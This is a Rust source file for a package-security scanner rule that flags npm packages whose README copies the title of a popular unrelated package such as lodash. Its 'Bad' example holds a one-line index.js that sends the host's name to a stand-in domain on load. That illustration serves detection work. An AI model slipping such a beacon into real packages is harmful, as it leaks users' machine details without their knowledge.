//! # The README is that of another package
//!
//! The README's title is the name of a popular package, which neither the release's name nor its repository has to
//! do with.
//!
//! ## Why it matters
//!
//! Pages of registries show the README. A copy makes a stranger's package look like the one people know.
//!
//! ## Known benign uses
//!
//! Packages of one project share a README; their names or repositories say which. In the corpora one release has
//! such a title, a fork.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "day-formatter-x", "version": "1.0.1", "main": "index.js"}
//! == README.md //~ 1
//! # lodash
//!
//! The modern utility library.
//! == index.js
//! const os = require("os");
//! require("https").get("https://stats.invalid/?h=" + os.hostname());
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "lodash-subset", "version": "1.0.1", "main": "index.js"}
//! == README.md
//! # lodash
//!
//! A subset of it.
//! == index.js
//! exports.chunk = (list, size) => [list.slice(0, size)];
//! ```
//!
//! ```package
//! == package.json
//! {"name": "day-formatter-x", "version": "1.0.1", "main": "index.js", "dependencies": {"lodash": "^4.17.21"}}
//! == README.md
//! # Day formatter
//! == index.js
//! exports.day = (date) => require("lodash").padStart(date.getDate(), 2, "0");
//! ```
//!
//! ## References
//!
//! - Socket: cloned READMEs in typosquats (2024 to 2026)
//! - the corpora of `eval/`, measured

use stockade_facts::lookalike;

use crate::prelude::*;

/// The README is that of another package.
pub struct ReadmeOfAnotherPackage;

impl Rule for ReadmeOfAnotherPackage {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "readme-of-another-package",
            title: "The README is that of another package",
            tier: Tier::FileList,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036",
            covers: &["brandjack"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(name) = facts.published_name() else { return };
        let Some((file, title)) = facts.readme_title() else { return };
        let is_related = |other: &str| other.contains(&title) || title.contains(other);
        let own = name.rsplit('/').next().unwrap_or(name);
        let repository = facts.repository_name();
        if !lookalike::is_popular(&title) || is_related(own) || name.contains(&title) {
            return;
        }
        if repository.is_some_and(|repository| is_related(&repository)) {
            return;
        }
        let does = format!("is titled `{}`, which is another package", excerpt(&title, 80));
        let mut steps: Vec<(Locus, &str)> =
            facts.unasked_files().into_iter().map(|file| (file, "runs by itself")).collect();
        steps.push((file, &does));
        found.path(Trigger::Install, &steps);
    }
}
